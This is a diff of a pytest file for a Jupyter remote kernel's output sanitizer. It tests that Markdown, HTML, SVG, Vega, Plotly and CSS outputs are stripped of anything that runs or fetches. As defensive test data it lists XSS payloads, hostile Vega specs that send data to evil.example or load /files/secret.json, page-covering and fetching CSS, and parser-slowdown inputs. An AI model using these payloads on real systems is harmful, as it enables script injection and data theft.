@@ -28,7 +28,7 @@ from jupyter_client.manager import start_new_kernel
 from conftest import start_pool
 from fake_pool import GUID, HostilePool, endless_body, execution
 from fault_server import Exchange, FaultServer, Received, json_answer
-from kernel_support import embedded_env, kernel, pool_env, run, text_of, wait_for
+from kernel_support import collect, embedded_env, errors_of, kernel, pool_env, run, text_of, wait_for
 from remote_kernel.kernel.helper import HELPER_MARK
 from remote_kernel.sessions import AnswerTooLarge, SessionsClient, StaticToken
 
@@ -70,7 +70,11 @@ def mime_types(outputs: list[dict]) -> set[str]:
 
 
 def active_code(outputs: list[dict]) -> list[str]:
-    return [match.group() for b in bundles(outputs) for v in b.values() for match in ACTIVE_CODE.finditer(str(v))]
+    """What would run: in HTML and other types as written, in Markdown as CommonMark readers render it."""
+    found = [match.group() for b in bundles(outputs) for k, v in b.items() if k != "text/markdown"
+             for match in ACTIVE_CODE.finditer(str(v))]
+    return found + [f for b in bundles(outputs) if "text/markdown" in b
+                    for rendered in commonmark_readings(b["text/markdown"]) for f in active_in_rendering(rendered)]
 
 
 def notices(outputs: list[dict]) -> list[str]:
@@ -102,7 +106,7 @@ def test_scripts_handlers_and_javascript_do_not_reach_the_front_end_by_default(r
     assert reply["status"] == "ok", outputs
     found = data_text(outputs)
     assert "application/javascript" not in mime_types(outputs) and not active_code(outputs), found
-    assert "<b>kept</b>" in found and "<rect" in found and "<strong>bold</strong>" in found
+    assert "<b>kept</b>" in found and "<rect" in found and "**bold**" in found
     assert len(notices(outputs)) == 1 and "%session active on" in notices(outputs)[0]
     _, again = run(remote, "from IPython.display import Javascript; Javascript('alert(6)')")
     assert not notices(again) and "application/javascript" not in mime_types(again)  # said once per session
@@ -450,18 +454,74 @@ def test_html_cleaning_keeps_styled_tables_and_removes_everything_that_runs():
     assert '<div style="color:red">d</div>' in kept["text/html"]
 
 
-@pytest.mark.parametrize("markdown, stays", [
-    ("**bold** $x^2$ and a < b, [docs](https://jupyter.org), [here](notes/a.md), [top](#top)", True),
-    ("[x](javascript:alert(1))", False), ("[x]( JaVaScRiPt:alert(1))", False), ("[x](\x01javascript:1)", False),
-    ("[a]: javascript:alert(1)\n\n[b][a]", False), ("[x](&#106;avascript:1)", False),
-    ("<img src=x onerror=alert(1)>", False), ("<javascript:alert(1)>", False), ("[x](data:text/html,1)", False),
+def commonmark_readings(markdown: str) -> list[str]:
+    """The HTML two CommonMark readers make of the text, with their own link checks off (a front end's may differ)."""
+    import mistune
+    from markdown_it import MarkdownIt
+
+    permissive = MarkdownIt("commonmark", {"html": True})
+    permissive.validateLink = lambda url: True
+    loose = mistune.create_markdown(renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True))
+    return [permissive.render(markdown), str(loose(markdown))]
+
+
+def active_in_rendering(rendered: str) -> list[str]:
+    """What would run in rendered HTML, read by a real HTML parser: script-like elements, handlers, script links."""
+    from html.parser import HTMLParser
+
+    found: list[str] = []
+
+    class Reader(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if tag in ("script", "iframe", "object", "embed", "svg", "math"):
+                found.append(tag)
+            for name, value in attrs:
+                url = re.sub(r"[\t\n\r]", "", value or "").strip("".join(map(chr, range(33)))).lower()
+                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
+                if name.startswith("on") or (name in ("href", "src") and scheme and scheme.group(1) not in (
+                        "http", "https", "mailto") and not url.startswith("data:image/png")):
+                    found.append(f"{tag} {name}={value}")
+
+    reader = Reader(convert_charrefs=True)
+    reader.feed(rendered)
+    reader.close()
+    return found
+
+
+SAFE_MARKDOWN = ["**bold** $x^2$ and a < b, [docs](https://jupyter.org), [here](notes/a.md), [top](#top)",
+                 "Note: at 10:30 the data: 5 rows; ![dot](data:image/png;base64,iVBORw0KGgo=)\n\n"
+                 "> [ref]: https://x.org\n\n[x][ref] &copy; <https://jupyter.org>",
+                 "- item with [a link](https://jupyter.org \"title\")\n- `code <b>` stays code? no: a tag in a code span"]
+
+
+def test_markdown_without_html_or_script_links_stays_as_written():
+    from remote_kernel.kernel.trust import screen_bundle
+
+    for markdown in SAFE_MARKDOWN[:2]:
+        assert screen_bundle({"text/markdown": markdown}) == ({"text/markdown": markdown}, [])
+
+
+@pytest.mark.parametrize("markdown", [
+    "[x](javascript:alert(1))", "[x]( JaVaScRiPt:alert(1))", "[x](\x01javascript:1)", "[x](javascript\\:alert(1))",
+    "[a]: javascript:alert(1)\n\n[b][a]", "[x](&#106;avascript:1)", "[x](data:text/html,1)",
+    "<img src=x onerror=alert(1)>", "<javascript:alert(1)>", "<VBScript:msgbox(1)>",
+    # finding 10: the definition inside a blockquote, a list item, indented, split over lines, tricked
+    "> [r]: javascript:alert(1)\n\n[x][r]", "- [r]: javascript:alert(1)\n\n[x][]\n\n[r]",
+    "   [r]: javascript:alert(1)\n\n[r][]", "> - [r]:\n>   JaVaScRiPt:alert(1)\n\n[x][r]",
+    "> [r]:\n> javascript:alert(1)\n\n[x][r]", "1. a\n\n   [r]: <javascript:alert(1)>\n\n[x][r]",
+    "> [r]: vbscript:msgbox(1)\n\n[x][r]", "> [r]: &#x6A;avascript:alert(1)\n\n[x][r]",
+    "> [r]: java&#x09;script:alert(1)\n\n[x][r]", "> [r]: data:text/html;base64,PHNjcmlwdD4=\n\n[x][r]",
+    "> > [r]: \tjavascript:alert(1) 'title'\n\n[x][r]",
+    "<details open ontoggle=alert(1)>", "a <a href='javascript:1'>b</a>", "<!-- x --><script>alert(1)</script>",
 ])
-def test_markdown_stays_as_written_only_without_html_or_script_links(markdown, stays):
+def test_markdown_that_a_reader_would_turn_into_script_is_made_inert(markdown):
     from remote_kernel.kernel.trust import screen_bundle
 
     kept, lost = screen_bundle({"text/markdown": markdown})
-    assert (kept == {"text/markdown": markdown} and lost == []) if stays else (
-        lost == ["text/markdown"] and not ACTIVE_CODE.search(kept["text/html"]))
+    assert lost == ["text/markdown"], kept
+    renderings = [kept["text/html"]] if "text/html" in kept else commonmark_readings(kept["text/markdown"])
+    for rendered in renderings:
+        assert not active_in_rendering(rendered), (markdown, kept, rendered)
 
 
 def test_svg_keeps_a_clean_picture_byte_for_byte_and_refuses_entities():
@@ -499,3 +559,359 @@ def test_endpoints_are_shown_without_credentials():
     assert "hunter2" not in str(settings.describe()) and "x.io/pools/p" in str(settings.describe())
     broken = KernelConfig.from_env({"POOL_MANAGEMENT_ENDPOINT": "ftp://alice:hunter2@x"})
     assert broken.problems and "hunter2" not in str(broken.problems)
+
+
+# --- issue 23 (findings 1, 3, 11) and issue 25 (item 5): the screen, without a kernel ------------
+
+#: what Altair 5 writes for a chart with inline data (alt.Chart(df).mark_bar().encode(...) with a
+#: selection parameter and a tooltip): `datasets` + `data.name`, config, params, encoding
+ALTAIR_SPEC = {
+    "config": {"view": {"continuousWidth": 300, "continuousHeight": 300}},
+    "data": {"name": "data-4b6a0dcc0e2f3f6f1d5e2e4f4d6f3f6f"},
+    "mark": {"type": "bar", "tooltip": True},
+    "encoding": {"x": {"field": "city", "type": "nominal", "title": "City < 5 km"},
+                 "y": {"field": "rain_mm", "type": "quantitative"},
+                 "color": {"condition": {"param": "param_1", "value": "steelblue"}, "value": "lightgray"}},
+    "params": [{"name": "param_1", "select": {"type": "point", "fields": ["city"]}, "bind": "legend"}],
+    "transform": [{"calculate": "datum.rain_mm / 10", "as": "rain_cm"}],
+    "title": "Rain <= 800 mm", "description": "Yearly rain",
+    "$schema": "https://vega.github.io/schema/vega-lite/v5.20.1.json",
+    "datasets": {"data-4b6a0dcc0e2f3f6f1d5e2e4f4d6f3f6f": [
+        {"city": "Lisbon", "rain_mm": 774, "url": "https://example.org/lisbon", "note": "a < b"},
+        {"city": "Oslo", "rain_mm": 763, "url": "/api/contents", "note": "<= 5"}]},
+}
+VEGA_TYPES = ["application/vnd.vegalite.v5+json", "application/vnd.vegalite.v4+json",
+              "application/vnd.vegalite.v6+json", "application/vnd.vega.v5+json", "application/vnd.vega.v6+json"]
+_TAG_START = re.compile(r"<[A-Za-z/!?]")
+
+
+def vega_sinks(node, data: bool = False, key: str = "") -> list[str]:
+    """URL, link, loader and page-binding keys outside inline data, and strings that could open a tag."""
+    found: list[str] = []
+    if isinstance(node, str):
+        return [node] if _TAG_START.search(node) else []
+    if isinstance(node, list):
+        return [f for item in node for f in vega_sinks(item, data, key)]
+    if isinstance(node, dict):
+        for name, value in node.items():
+            if _TAG_START.search(name):
+                found.append(name)
+            if not data and (name in ("url", "href", "loader", "sourceHeader", "sourceFooter", "editorUrl",
+                                      "defaultStyle") or (key == "bind" and name == "element")):
+                found.append(name)
+            found += vega_sinks(value, data or name in ("values", "datasets"), name)
+    return found
+
+
+HOSTILE_VEGA = [
+    {"data": {"url": "/api/contents?content=1"}, "mark": "point"},
+    {"data": {"values": [{"a": 1}]}, "mark": "image",
+     "encoding": {"url": {"field": "a", "type": "nominal"}, "href": {"value": "javascript:alert(1)"}}},
+    {"layer": [{"data": {"url": "notes.csv"}, "mark": {"type": "image", "url": "https://evil.example/x.png",
+                                                         "href": "https://evil.example"}}]},
+    {"data": [{"name": "t", "url": {"signal": "'/api/contents?x=' + now()"}}],
+     "signals": [{"name": "u", "update": "'https://evil.example/?' + data('t')",
+                  "bind": {"input": "text", "element": "#jp-top-panel"}}],
+     "marks": [{"type": "image", "encode": {"update": {"url": {"signal": "u"}}}}]},
+    {"description": "</code><img src=x onerror=alert(1)>", "title": {"text": "<script>alert(1)</script>"},
+     "data": {"values": [{"<img src=x onerror=alert(2)>": 1}]}, "mark": "bar",
+     "usermeta": {"embedOptions": {"sourceHeader": "<script>alert(3)</script>", "actions": True,
+                                   "loader": {"baseURL": "/api/"}, "editorUrl": "javascript:alert(4)"}}},
+    {"transform": [{"lookup": "a", "from": {"data": {"url": "/files/secret.json"}, "key": "a"}}], "mark": "bar",
+     "config": {"mark": {"href": "javascript:alert(1)"}}},
+]
+
+
+@pytest.mark.parametrize("mime", VEGA_TYPES)
+@pytest.mark.parametrize("spec", HOSTILE_VEGA)
+def test_vega_specs_lose_urls_links_page_bindings_and_html(spec, mime):
+    from remote_kernel.kernel.trust import screen_bundle
+
+    assert vega_sinks(spec)  # the case is hostile
+    kept, lost = screen_bundle({mime: spec, "text/plain": "chart"})
+    assert lost == [mime] and kept["text/plain"] == "chart"
+    assert mime not in kept or not vega_sinks(kept[mime]), kept
+
+
+def test_vega_embed_options_keep_only_what_cannot_inject_and_an_altair_chart_passes_unchanged():
+    from remote_kernel.kernel.trust import OutputGuard, screen_bundle
+
+    for mime in VEGA_TYPES:
+        kept, lost = screen_bundle({mime: ALTAIR_SPEC, "text/plain": "alt.Chart(...)"})
+        assert lost == [] and kept[mime] == ALTAIR_SPEC, mime
+    content = {"data": {VEGA_TYPES[0]: ALTAIR_SPEC}, "metadata": {VEGA_TYPES[0]: {"embed_options": {
+        "actions": {"export": True, "source": False}, "theme": "dark", "renderer": "svg"}}}}
+    assert OutputGuard().screen("display_data", content) == (content, None)
+
+    mime = "application/vnd.vegalite.v5+json"
+    hostile = {"sourceFooter": "<script>alert(1)</script>", "sourceHeader": "<img src=x onerror=alert(2)>",
+               "defaultStyle": "body{display:none}", "loader": {"baseURL": "/api/"}, "actions": True,
+               "editorUrl": "javascript:alert(3)", "i18n": {"SOURCE_ACTION": "<b>x</b>"}, "theme": "dark"}
+    for metadata in ({mime: {"embed_options": hostile}}, {"embed_options": hostile}):
+        screened, notice = OutputGuard().screen("display_data", {"data": {mime: ALTAIR_SPEC}, "metadata": metadata})
+        options = (screened["metadata"].get(mime) or screened["metadata"])["embed_options"]
+        assert options == {"actions": True, "theme": "dark"} and screened["data"][mime] == ALTAIR_SPEC
+        assert notice and "metadata" in notice
+
+
+def test_json_types_pass_only_when_their_renderer_runs_and_fetches_nothing():
+    from remote_kernel.kernel.trust import screen_bundle
+
+    inert = {"application/json": {"a": 1}, "application/geo+json": {"type": "Point", "coordinates": [0, 0]},
+             "application/vnd.plotly.v1+json": {"data": [], "layout": {}},
+             "application/vnd.dataresource+json": {"schema": {}, "data": []}}
+    kept, lost = screen_bundle({**inert, "application/vdom.v1+json": {"tagName": "iframe", "attributes": {
+        "srcdoc": "<script>alert(1)</script>"}}, "application/vnd.unknown.renderer+json": {"code": "x"},
+        "text/plain": "x"})
+    assert kept == {**inert, "text/plain": "x"}
+    assert lost == ["application/vdom.v1+json", "application/vnd.unknown.renderer+json"]
+
+
+def inert_html_outputs() -> dict[str, str]:
+    """HTML that libraries write and that runs nothing: each must pass byte for byte."""
+    import numpy as np
+    import pandas as pd
+    from IPython.display import Audio, Video
+
+    columns = pd.MultiIndex.from_product([["a", "b"], ["x", "y"]])
+    wide = pd.DataFrame(np.arange(8).reshape(2, 4), columns=columns, index=pd.Index(["r0", "r1"], name="row"))
+    styled = (wide.style.background_gradient(cmap="Blues").highlight_max(color="yellow")
+              .set_table_styles([{"selector": "th", "props": [("color", "darkblue"), ("text-align", "center")]}])
+              .set_caption("Rain").set_sticky(axis="index").format("{:.1f}"))
+    return {"multiindex frame": wide._repr_html_(), "multiindex to_html": wide.to_html(), "styler": styled.to_html(),
+            "plain frame": pd.DataFrame({"a": [1, 2], "b": ["x", "<y>"]})._repr_html_(),
+            "video by URL": Video("https://example.org/clip.mp4")._repr_html_(),
+            "embedded video": Video(b"\x00\x00\x00\x18ftypmp42", embed=True, mimetype="video/mp4")._repr_html_(),
+            "audio": Audio(url="https://example.org/sound.wav")._repr_html_(),
+            "video element": '<video src="clip.mp4" controls width="320" poster="poster.png"></video>',
+            "comment and doctype": "<!DOCTYPE html><!-- a note --><p title='a > b'>x &amp; y <br/> z</p>"}
+
+
+def test_inert_html_passes_byte_for_byte_without_a_note():
+    from remote_kernel.kernel.trust import OutputGuard
+
+    for name, html in inert_html_outputs().items():
+        content = {"data": {"text/html": html, "text/plain": "x"}, "metadata": {}}
+        assert OutputGuard().screen("display_data", content) == (content, None), name
+
+
+HOSTILE_STYLES = [
+    '<style>div { position: fixed; inset: 0; z-index: 99999; background: white }</style><div>click here</div>',
+    '<style>.o { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh }</style><div class="o">x</div>',
+    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647">x</div>',
+    '<div style="position: ABSOLUTE; top: -900px">x</div>', '<div style="position:\\66ixed">x</div>',
+    '<style>.o { --p: fixed; position: var(--p) }</style><div class="o">x</div>',
+    '<style>.jp-Notebook { display: none }</style><div class="jp-Notebook">x</div>',
+    '<style>* { color: white } body { display: none }</style><p>x</p>',
+    '<style>@import url("https://evil.example/x.css"); .o { color: red }</style><b class="o">x</b>',
+    '<style>.o { background: url(/api/contents?x=1) }</style><b class="o">x</b>',
+    '<style>.o { background: image-set("https://evil.example/a.png" 1x) }</style><b class="o">x</b>',
+    '<style>.o { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y) }</style>'
+    '<b class="o">x</b>',
+    '<style>html:has(input[value^="a"]) { --leak: 1 } :root { --jp-layout-color0: red }</style><b>x</b>',
+    '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) } @keyframes k { from { top: 0 } }'
+    '</style><b>x</b>',
+    '<style>@media screen { p { position: fixed } }</style><p>x</p>',
+]
+_ESCAPING_CSS = re.compile(r"position\s*:\s*[^;}\"]*(?:fixed|absolute|\\66|var)|jp-notebook\s*\{|\*\s*\{|body\s*\{|@import|url\(|"
+                           r"image-set|expression|behavior|binding|:has|--jp-|@font-face|@keyframes|@media[^{]*\{\s*p",
+                           re.I)
+
+
+@pytest.mark.parametrize("html", HOSTILE_STYLES)
+def test_css_that_leaves_the_output_or_fetches_is_removed(html):
+    from remote_kernel.kernel.trust import screen_bundle
+
+    kept, lost = screen_bundle({"text/html": html})
+    assert lost == ["text/html"] and not _ESCAPING_CSS.search(kept["text/html"]), kept
+    assert re.search(r">x<|click here", kept["text/html"])  # the content stays, without the style
+
+
+def test_a_style_scoped_to_the_output_keeps_its_safe_rules_and_loses_the_rest():
+    from remote_kernel.kernel.trust import screen_bundle
+
+    html = ('<style>#T_1 td { color: red; position: fixed } .dataframe th { text-align: right } '
+            'div { position: fixed } :root { --xr-font-color0: #333 }</style>'
+            '<table id="T_1" class="dataframe"><tr><th>h</th><td>1</td></tr></table>')
+    kept, lost = screen_bundle({"text/html": html})
+    style = kept["text/html"].split("</style>")[0]
+    assert lost == ["text/html"] and "color: red" in style and "text-align: right" in style
+    assert "--xr-font-color0" in style and "fixed" not in style and "div" not in style
+
+
+PATHOLOGICAL = {  # the red team's inputs and their variations, at their sizes
+    "markdown links": ("text/markdown", "[a\n" * 85000), "nested brackets": ("text/markdown", "[" * 200000),
+    "open links": ("text/markdown", "[a](" * 100000), "definitions": ("text/markdown", "> [a]: <" * 100000),
+    "markdown tags": ("text/markdown", "<a" * 100000), "markdown entities": ("text/markdown", "&#1" * 100000),
+    "unclosed tags": ("text/html", "<a" * 100000), "unclosed attributes": ("text/html", "<a b='" * 100000),
+    "CDATA": ("text/html", "<![" * 100000), "CDATA sections": ("text/html", "<![CDATA[" * 100000),
+    "comments": ("text/html", "<!--" * 100000), "comment ends": ("text/html", "<!-- --!" * 100000),
+    "processing instructions": ("text/html", "<?" * 100000), "end tags": ("text/html", "</a" * 100000),
+    "nested tags": ("text/html", "<b><i>" * 100000), "styles": ("text/html", "<style>" * 100000),
+    "style rules": ("text/html", "<style>" + ".a{" * 100000 + "</style>"),
+    "svg": ("image/svg+xml", "<svg>" + "<g>" * 100000),
+}
+
+
+def test_the_pathological_inputs_are_screened_in_time_linear_in_their_size():
+    """Each input at the size that took minutes (or raised) before, screened in a child process with a generous
+    limit: quadratic work on any of them (about 10^10 steps) would not finish in it."""
+    script = ("import json, sys\nfrom remote_kernel.kernel.trust import OutputGuard\n"
+              "cases = json.load(sys.stdin)\n"
+              "for name, (mime, text) in cases.items():\n"
+              "    guard = OutputGuard()\n"
+              "    screened, notice = guard.screen('display_data', {'data': {mime: text, 'text/plain': 'p'},"
+              " 'metadata': {}})\n"
+              "    assert screened['data']['text/plain'] == 'p', name\n"
+              "print('screened', len(cases))\n")
+    done = subprocess.run([os.sys.executable, "-c", script], input=json.dumps(PATHOLOGICAL), capture_output=True,
+                          text=True, timeout=300, env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])})
+    assert done.returncode == 0 and f"screened {len(PATHOLOGICAL)}" in done.stdout, done.stderr[-2000:]
+
+
+def test_past_the_cells_budget_outputs_keep_their_plain_text_with_one_note():
+    from remote_kernel.kernel.trust import CELL_SCREEN_BUDGET, OutputGuard
+
+    guard = OutputGuard()
+    chunk = "<p>" + "x" * (CELL_SCREEN_BUDGET // 3) + "</p>"
+    shown = [guard.screen("display_data", {"data": {"text/html": chunk, "text/plain": str(i)}, "metadata": {}})
+             for i in range(5)]
+    assert [set(content["data"]) for content, _ in shown] == [{"text/html", "text/plain"}] * 2 + [{"text/plain"}] * 3
+    assert [bool(notice) for _, notice in shown] == [False, False, True, False, False]
+    assert "budget" in shown[2][1] and shown[4][0]["data"] == {"text/plain": "4"}
+    guard.new_cell()
+    assert "text/html" in guard.screen("display_data", {"data": {"text/html": chunk}, "metadata": {}})[0]["data"]
+
+
+def test_an_output_the_screen_cannot_read_keeps_its_plain_text():
+    from remote_kernel.kernel.trust import OutputGuard
+
+    deep: list = []
+    for _ in range(100000):
+        deep = [deep]
+    screened, notice = OutputGuard().screen("display_data", {"data": {
+        "application/vnd.vegalite.v5+json": {"data": {"values": deep}}, "text/plain": "chart"}, "metadata": {}})
+    assert screened["data"] == {"text/plain": "chart"} and "could not read" in notice
+
+
+# --- the same, through real kernels -----------------------------------------------------------
+
+PATHOLOGICAL_CELL = """\
+from IPython.display import display, HTML, Markdown
+display(Markdown("[a\\n" * 85000))
+display(HTML("<a" * 100000))
+display(HTML("<![" * 60000))
+display(HTML("<![CDATA[" * 30000 + "<!--" * 60000 + "<?" * 60000))
+display(Markdown("> [a]: <" * 40000 + "[" * 100000))
+print('after')
+"""
+
+
+def test_a_cell_of_pathological_outputs_prints_what_follows_and_kernel_info_answers(remote):
+    msg_id = remote.execute(PATHOLOGICAL_CELL)
+    remote.control_channel.send(remote.session.msg("kernel_info_request"))  # while the cell runs
+    control = remote.control_channel.get_msg(timeout=60)
+    outputs = collect(remote, msg_id, timeout=120)
+    reply = remote.get_shell_msg(timeout=60)
+    while reply["parent_header"].get("msg_id") != msg_id:
+        reply = remote.get_shell_msg(timeout=60)
+    assert control["msg_type"] == "kernel_info_reply" and control["content"]["status"] == "ok"
+    assert reply["content"]["status"] == "ok", reply["content"]
+    assert text_of(outputs, "stdout") == "after\n" and not errors_of(outputs)
+    assert len(bundles(outputs)) == 5 and all("text/plain" in b for b in bundles(outputs))
+    remote.kernel_info()
+    assert remote.get_shell_msg(timeout=60)["content"]["status"] == "ok"
+
+
+INERT_CELL = """\
+import numpy as np, pandas as pd
+from IPython.display import display, HTML, Video
+frame = pd.DataFrame(np.arange(8).reshape(2, 4), columns=pd.MultiIndex.from_product([["a", "b"], ["x", "y"]]))
+display(frame)
+display(HTML(frame.to_html()))
+display(frame.style.highlight_max(color="yellow").set_uuid("fixed").set_caption("Styled"))
+display(Video("https://example.org/clip.mp4"))
+display(HTML('<video src="clip.mp4" controls width="320"></video><!-- a note --><p style="color: red">x</p>'))
+frame
+"""
+
+
+def test_inert_html_arrives_byte_for_byte_as_on_ipykernel_without_a_note(remote):
+    with local_kernel() as (_, local):
+        local_reply, local_outputs = run(local, INERT_CELL)
+    reply, outputs = run(remote, INERT_CELL)
+    assert reply["status"] == local_reply["status"] == "ok", outputs
+
+    def html(outs: list[dict]) -> list[tuple[str, str]]:
+        return [(m["msg_type"], m["content"]["data"].get("text/html", "")) for m in outs if "data" in m["content"]]
+
+    assert html(outputs) == html(local_outputs) and len(html(outputs)) == 6
+    assert 'halign="left"' in html(outputs)[0][1] and "<style scoped>" in html(outputs)[0][1]
+    assert not notices(outputs) and text_of(outputs, "stderr") == ""
+
+
+ALTAIR_CELL = f"""\
+from IPython.display import display
+spec = {ALTAIR_SPEC!r}
+display({{"application/vnd.vegalite.v5+json": spec, "text/plain": "alt.Chart(...)"}}, raw=True)
+"""
+
+
+def test_an_altair_chart_arrives_as_on_ipykernel_and_a_hostile_spec_loses_its_sinks(remote):
+    with local_kernel() as (_, local):
+        _, local_outputs = run(local, ALTAIR_CELL)
+    _, outputs = run(remote, ALTAIR_CELL)
+    assert bundles(outputs) == bundles(local_outputs) and not notices(outputs)
+    hostile = ("from IPython.display import display\n"
+               f"for spec in {HOSTILE_VEGA!r}:\n"
+               "    display({'application/vnd.vega.v5+json': spec, 'text/plain': 'chart'}, raw=True,\n"
+               "            metadata={'application/vnd.vega.v5+json': {'embed_options': {\n"
+               "                'sourceFooter': '<script>alert(1)</script>', 'actions': True}}})\n")
+    _, outputs = run(remote, hostile)
+    shown = [m["content"] for m in outputs if "data" in m["content"]]
+    assert len(shown) == len(HOSTILE_VEGA)
+    for content in shown:
+        assert not vega_sinks(content["data"].get("application/vnd.vega.v5+json", {}))
+        assert content["metadata"]["application/vnd.vega.v5+json"] == {"embed_options": {"actions": True}}
+
+
+def test_plotly_figures_lose_only_what_would_be_fetched_from_the_jupyter_origin():
+    import numpy as np
+    import plotly.graph_objects as go
+
+    from remote_kernel.kernel.trust import screen_bundle
+
+    mime = "application/vnd.plotly.v1+json"
+    inline = {"type": "FeatureCollection", "features": []}
+    usual = [go.Figure(go.Bar(y=[1, 3, 2])), go.Figure(go.Sankey(link={"source": [0, 1], "target": [1, 2],
+                                                                         "value": [1, 2]})),
+             go.Figure(go.Image(source="data:image/png;base64,iVBORw0KGgo=")),
+             go.Figure(go.Heatmap(z=np.arange(4).reshape(2, 2))),
+             go.Figure(go.Choroplethmap(geojson="https://example.org/regions.geojson", locations=["a"], z=[1]),
+                       layout={"map": {"style": "open-street-map"}}),
+             go.Figure(go.Choroplethmap(geojson=inline, locations=["a"], z=[1]))]
+    for figure in usual:
+        spec = json.loads(figure.to_json())
+        assert screen_bundle({mime: spec}) == ({mime: spec}, []), spec
+    hostile = go.Figure(go.Choroplethmap(geojson="/api/contents/secret.geojson", locations=["a"], z=[1]),
+                        layout={"map": {"style": "style.json", "layers": [
+                            {"source": "../files/data.geojson"}, {"sourcetype": "raster", "source": ["/tiles/{z}"]}]}})
+    spec = {**json.loads(hostile.to_json()), "config": {"topojsonURL": "/api/contents/"}}
+    spec["layout"]["mapbox"] = {"style": {"version": 8, "sources": {"x": {"url": "/api/x"}}}}  # plotly < 6
+    kept, lost = screen_bundle({mime: spec})
+    text = json.dumps(kept[mime])
+    assert lost == [mime] and not re.search(r"/api/|\.\./|style\.json|/tiles/|topojsonURL", text), text
+
+
+def test_charts_spend_the_cells_budget_too():
+    from remote_kernel.kernel.trust import Budget, OutputGuard
+
+    guard = OutputGuard()
+    guard.budget = Budget(5000)
+    spec = {"data": {"values": [{"x": i, "label": "point"} for i in range(200)]}, "mark": "point"}
+    shown = [guard.screen("display_data", {"data": {mime: spec, "text/plain": "chart"}, "metadata": {}})
+             for mime in ("application/vnd.vegalite.v5+json", "application/vnd.plotly.v1+json")
+             for _ in range(3)]
+    kept = [sorted(content["data"]) for content, _ in shown]
+    assert kept[0] == ["application/vnd.vegalite.v5+json", "text/plain"] and kept[-1] == ["text/plain"]
+    assert sum(1 for _, notice in shown if notice) == 1
